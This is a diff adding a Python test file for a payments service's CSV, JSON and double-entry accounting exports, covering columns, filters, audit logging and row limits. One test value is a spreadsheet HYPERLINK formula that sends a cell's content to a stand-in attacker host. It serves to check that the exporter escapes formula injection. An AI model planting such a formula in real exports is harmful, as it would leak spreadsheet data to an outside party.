@@ -1,0 +1,167 @@
+"""Files of payments and of the double entry: each row and column is what is stored."""
+
+import csv
+import io
+import json
+import random
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+
+from service.analytics.operations import exporting
+from service.analytics.repository import exports
+from service.jobs.operations.run import run_job
+from service.storage.database import Row
+from tests.analytics.rows import one_sale
+from tests.analytics.test_now import BASE
+from tests.bookkeeping.books import CRON
+from tests.conftest import NOON
+from tests.payments.history.rows import pay
+from tests.support.api import ADMIN
+from tests.support.shop import Shop
+
+ALL = {"startDate": "2026-01-01", "endDate": "2026-12-31"}
+FORMULA = '=HYPERLINK("https://evil.example?"&A1,"pay")'
+
+
+async def _file(shop: Shop, name: str, **params: Any) -> str:
+    answer = await shop.api.call("GET", f"{BASE}/exports/{name}", ADMIN, params=ALL | params)
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["cache-control"] == "no-store"
+    return answer.text
+
+
+def _table(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.fixture
+async def sold(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> list[Row]:
+    """Payments of two merchants in several currencies; returned are one's, newest first."""
+    monkeypatch.setattr(exports, "BATCH", 7)
+    draw = random.Random(19)  # noqa: S311 - no secret
+    for number in range(110):
+        at = NOON - timedelta(seconds=draw.randrange(60 * 86_400), milliseconds=number)
+        await one_sale(draw, f"s-{number}", at, "another" if number % 9 == 0 else "default")
+    fees = {"fee": 59, "feeCurrency": "USD", "country": "DE"}
+    await pay("pi_fee", details=fees, metadata={"order": 7, "note": "späte"}, refunded=30)
+    await pay("pi_other", 1, details=fees | {"feeCurrency": "EUR"}, planName=FORMULA, userId="-1")
+    rows = await shop.payments(merchantId="default")
+    return sorted(rows, key=lambda row: (row["createdAt"], row["_id"]), reverse=True)
+
+
+def _seconds(at: datetime) -> str:
+    return f"{at.astimezone(UTC):%Y-%m-%dT%H:%M:%S}Z"
+
+
+def _expected(row: Row) -> dict[str, str]:
+    details = row["details"] or {}
+    fee = details.get("fee") if details.get("feeCurrency") == row["currency"] else None
+    values = {
+        "Transaction ID": row["_id"],
+        "Amount": row["amount"],
+        "Currency": row["currency"],
+        "Status": row["status"],
+        "Resource": row["planName"] or row["planId"],
+        "Provider": row["provider"],
+        "Provider Payment ID": row["providerPaymentId"],
+        "Payment Method": row["paymentMethod"],
+        "Session ID": row["sessionId"],
+        "User ID": row["userId"],
+        "Country": details.get("country"),
+        "Refunded": row["refunded"],
+        "Fee": fee,
+        "Failure Code": row["failureCode"],
+        "Created At": _seconds(row["createdAt"]),
+        "Status At": _seconds(row["statusAt"]),
+    }
+    shown = {name: "" if value is None else str(value) for name, value in values.items()}
+    return {name: f"'{text}" if text[:1] in {"=", "-"} else text for name, text in shown.items()}
+
+
+async def test_a_table_has_each_payment_with_all_columns(shop: Shop, sold: list[Row]) -> None:
+    assert len(sold) > 30
+    found = _table(await _file(shop, "transactions"))
+    assert found == [_expected(row) for row in sold]
+    assert ("'" + FORMULA, "'-1") in {(row["Resource"], row["User ID"]) for row in found}
+    assert {row["Fee"] for row in found} == {"", "59"}
+    with_metadata = _table(await _file(shop, "transactions", includeMetadata="true"))
+    assert [json.loads(row.pop("Metadata")) for row in with_metadata] == [
+        row["metadata"] for row in sold
+    ]
+    assert with_metadata == found
+
+
+async def test_json_has_the_same_payments(shop: Shop, sold: list[Row]) -> None:
+    plain = json.loads(await _file(shop, "transactions", format="json"))
+    assert plain["transactionCount"] == len(sold) == len(plain["transactions"])
+    found = json.loads(await _file(shop, "transactions", format="json", includeMetadata="true"))
+    for line, row, without in zip(found["transactions"], sold, plain["transactions"], strict=True):
+        assert line.pop("metadata") == row["metadata"]
+        assert line == without
+        details = row["details"] or {}
+        assert (line["id"], line["country"]) == (str(row["_id"]), details.get("country"))
+        assert line["resource"] == (row["planName"] or row["planId"])
+        for name, stored in (("createdAt", "createdAt"), ("statusAt", "statusAt")):
+            assert datetime.fromisoformat(line[name]) == row[stored]
+        for name in ("amount", "currency", "status", "provider", "providerPaymentId", "sessionId"):
+            assert line[name] == row[name]
+        for name in ("userId", "paymentMethod", "refunded", "failureCode"):
+            assert line[name] == row[name]
+
+
+async def test_a_time_and_a_currency_are_all_that_is_in_a_file(shop: Shop, sold: list[Row]) -> None:
+    begins = NOON - timedelta(days=20)
+    params = {"startDate": begins.isoformat(), "endDate": NOON.isoformat(), "currency": "INR"}
+    wanted = [row for row in sold if begins <= row["createdAt"] < NOON and row["currency"] == "INR"]
+    assert 0 < len(wanted) < len(sold)
+    found = _table(await _file(shop, "transactions", **params))
+    assert found == [_expected(row) for row in wanted]
+
+
+async def test_the_double_entry_has_each_line_and_balances(shop: Shop, sold: list[Row]) -> None:
+    for name in ("payments", "refunds", "disputes"):
+        await shop.database[name].update_many({}, {"$set": {"unposted": True}})
+    await run_job("entries", shop.api.container.job_table, CRON)
+    entries = await shop.database["entries"].find({"merchantId": "default"}).to_list()
+    entries.sort(key=lambda row: (row["postedAt"], row["_id"]))
+    expected = [
+        [
+            row["postedAt"].date().isoformat(),
+            row["_id"],
+            row["objectId"],
+            f"{row['kind'].capitalize()} {row['objectId']}",
+            line["account"],
+            str(line["amount"]) if line["amount"] > 0 else "",
+            str(-line["amount"]) if line["amount"] < 0 else "",
+            line["currency"],
+        ]
+        for row in entries
+        for line in row["lines"]
+    ]
+    head, *found = csv.reader(io.StringIO(await _file(shop, "accounting"), newline=""))
+    assert tuple(head) == exporting.ACCOUNTING
+    assert found == expected
+    assert len(found) > len(sold)
+    for currency in {line[7] for line in found}:
+        lines = [line for line in found if line[7] == currency]
+        assert sum(int(line[5] or 0) for line in lines) == sum(int(line[6] or 0) for line in lines)
+
+
+async def test_a_file_is_on_the_record_and_holds_so_many(
+    shop: Shop, sold: list[Row], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    await _file(shop, "transactions", format="json")
+    [row] = await shop.database["audit_log"].find({"action": "payments.downloaded"}).to_list()
+    assert (row["detail"]["format"], row["detail"]["payments"]) == ("json", len(sold))
+    monkeypatch.setattr(exporting, "MOST_ROWS", len(sold) - 1)
+    answer = await shop.api.call("GET", f"{BASE}/exports/transactions", ADMIN, params=ALL)
+    assert answer.status_code == 400
+    assert "ask for less" in answer.text
+
+
+async def test_a_file_of_nothing_is_a_file(shop: Shop) -> None:
+    assert _table(await _file(shop, "transactions")) == []
+    assert json.loads(await _file(shop, "transactions", format="json"))["transactions"] == []
+    assert len((await _file(shop, "accounting")).splitlines()) == 1
